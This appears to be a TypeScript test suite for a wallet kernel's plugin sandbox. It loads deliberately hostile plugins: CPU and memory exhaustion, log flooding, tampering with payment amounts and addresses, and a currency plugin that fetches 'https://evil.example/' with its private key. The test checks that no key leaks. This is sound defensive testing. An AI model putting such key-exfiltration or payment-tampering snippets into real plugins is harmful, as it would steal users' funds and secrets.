import test from 'ava'
import { makeFakeWorld } from '../../fake-server/fake-world.ts'
import { describeError } from '../../kernel/base/errors.ts'
import { nativeAmount, type Plugin } from '../../kernel/index.ts'
import { observerHookNames } from '../../kernel/observer-api.ts'
import { makeNodeIo } from '../../platform/node/index.ts'
import { bundled, type CellStage, openCellStage } from '../helpers/cell-stage.ts'
import { openDevice, waitFor } from '../helpers/device.ts'
import { ledgerIo, TOLLAR } from '../helpers/tollar-source.ts'

const policy = (body: string): string =>
  `definePlugin({ kind: 'policy', id: 'bad', apply({ hooks, disk }) { hooks.beforeSign.tapPromise('bad', async spend => { ${body} }) } })`

const observer = (body: string): string =>
  `definePlugin({ kind: 'observer', id: 'bad', apply({ hooks }) { for (const name of ${JSON.stringify(observerHookNames)}) hooks[name].tap('bad', snapshot => { ${body} }) } })`

interface Hostile {
  readonly name: string
  readonly kind: 'currency' | 'observer' | 'policy'
  readonly code: () => Promise<string>
  /** How the payment of the tollars ends; nothing leaves unless it is `paid`. */
  readonly payment: RegExp | 'paid'
}

const currency = (
  name: string,
  payment: Hostile['payment'],
  ...changes: readonly [string, string][]
): Hostile => ({
  ...{ name, kind: 'currency', payment },
  code: () => {
    const source = changes.reduce((text, [from, to]) => {
      if (!text.includes(from)) throw new Error(`${from} is not in the source`)
      return text.replace(from, to)
    }, TOLLAR)
    return bundled(source)
  }
})

const other = (
  kind: 'observer' | 'policy',
  name: string,
  payment: Hostile['payment'],
  code: string
): Hostile => ({
  ...{ name, kind, payment },
  code: async () => code
})

const SIGNS = 'const text = JSON.stringify(tx.otherParams)'

const HOSTILE: readonly Hostile[] = [
  other('policy', 'spins when it is asked', /kept its thread busy/, policy('for (;;);')),
  other(
    'policy',
    'eats memory when it is asked',
    /more memory than a cell may/,
    policy('const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1))')
  ),
  other('policy', 'throws what is no error', /./, policy('throw null')),
  other(
    'policy',
    'changes the payment that it is shown',
    'paid',
    policy("spend.nativeAmount = '1'; try { spend.spendTargets[0].publicAddress = 'evil' } catch {}")
  ),
  other('observer', 'spins in every hook', 'paid', observer('for (;;);')),
  other('observer', 'throws in every hook', 'paid', observer("throw new Error('no')")),
  other(
    'observer',
    'prints everything that it sees',
    'paid',
    observer('console.log(JSON.stringify(snapshot))')
  ),
  other(
    'observer',
    'floods the log from every hook',
    'paid',
    observer("for (let n = 0; n < 500; n++) console.log('x'.repeat(900))")
  ),
  currency('signs another amount', /Signed|differs|otherwise|sign/i, [
    SIGNS,
    "tx = { ...tx, nativeAmount: nativeAmount('-4000') }; const text = JSON.stringify({ to: 'evil', amount: '4000' })"
  ]),
  currency('spins when it signs', /kept its thread busy/, [
    SIGNS,
    'for (;;); const text = JSON.stringify(tx.otherParams)'
  ]),
  currency('brings its process down when it signs', /more memory|process down/, [
    SIGNS,
    'new Array(2 ** 27).fill(0); await new Promise(() => {}); const text = JSON.stringify(tx.otherParams)'
  ]),
  currency('throws its key', /./, [SIGNS, "throw new Error('key ' + tollarKey); const text = ''"]),
  currency('sends its key to a server', 'paid', [
    SIGNS,
    "await io.fetch('https://evil.example/' + tollarKey).catch(() => {}); await io.fetch('https://ledger.example.evil.example/' + tollarKey).catch(() => {}); const text = JSON.stringify(tx.otherParams)"
  ]),
  currency('reports after it was killed, and floods', 'paid', [
    'async killEngine() { isAlive = false }',
    "async killEngine() { setTimeout(() => { for (let n = 0; n < 100; n++) callbacks.onTokenBalanceChanged(null, '1') }, 1) }"
  ])
]

const pay = async (
  stage: CellStage,
  { kind, code }: Hostile
): Promise<{ end: string; sent: number; key: string }> => {
  const load = async (): Promise<readonly Plugin[]> => {
    if (kind !== 'currency') {
      const tollar = await stage.load(await bundled(TOLLAR), {
        id: 'tollar',
        kind: 'currency',
        hosts: ['ledger.example']
      })
      return [tollar, await stage.load(await code(), { id: 'bad', kind })]
    }
    return [await stage.load(await code(), { id: 'tollar', kind, hosts: ['ledger.example'] })]
  }
  const world = makeFakeWorld({ io: makeNodeIo() })
  const { io, ledger } = ledgerIo(world)
  const reached: string[] = []
  const fetch: typeof io.fetch = (url, options) => {
    reached.push(url)
    return io.fetch(url, options)
  }
  const kernel = await openDevice(world, { plugins: await load(), io: { ...io, fetch } })
  try {
    const account = await kernel.context.createAccount({})
    const wallet = await account.createCurrencyWallet('wallet:tollar')
    // A policy may refuse that, too.
    const keys = await account.walletKeys
      .getRawPrivateKey(wallet.id)
      .catch(() => ({ tollarKey: 'not shown' }))
    const key = String(keys.tollarKey)
    await waitFor(() => wallet.balanceOf(null) === nativeAmount('5000'))
    const spendTargets = [{ publicAddress: 'tolshop', nativeAmount: nativeAmount('1000') }]
    const end = await wallet
      .makeSpend({ tokenId: null, spendTargets })
      .then(draft => wallet.spend(draft))
      .then(
        () => 'paid',
        (error: unknown) => describeError(error)
      )
    stage.seen.push(...reached)
    // The real currency of the device goes on.
    const savings = await account.createCurrencyWallet('wallet:bitcoin')
    world.chain.fund((await savings.getReceiveAddress()).publicAddress, '1000')
    await waitFor(() => savings.balanceOf(null) === nativeAmount('1000'))
    return { end, sent: ledger.sent.length, key }
  } finally {
    await kernel.close()
  }
}

test('hostile policies, observers and currencies stop or pass one payment, and no key leaves', async t => {
  t.timeout(280_000)
  const problems: string[] = []
  for (const hostile of HOSTILE) {
    const { kind, name, payment } = hostile
    const stage = openCellStage({ busyMs: kind === 'currency' ? 400 : 1500 })
    try {
      const { end, sent, key } = await pay(stage, hostile)
      t.log(`${kind} ${name}: ${end}`)
      const isRight =
        payment === 'paid' ? end === 'paid' && sent === 1 : payment.test(end) && end !== 'paid' && sent === 0
      if (!isRight) problems.push(`${kind} ${name}: ${end}, ${sent} sent`)
      if (end.includes(key)) problems.push(`${kind} ${name}: the key is in the error`)
      const lines = kind === 'currency' ? stage.seen.filter(line => line.includes('evil')) : stage.seen
      if (lines.some(line => line.includes(key))) problems.push(`${kind} ${name}: the key is out`)
    } catch (error) {
      problems.push(`${kind} ${name}: ${error}`)
    } finally {
      stage.cells.close()
    }
  }
  t.deepEqual(problems, [])
})
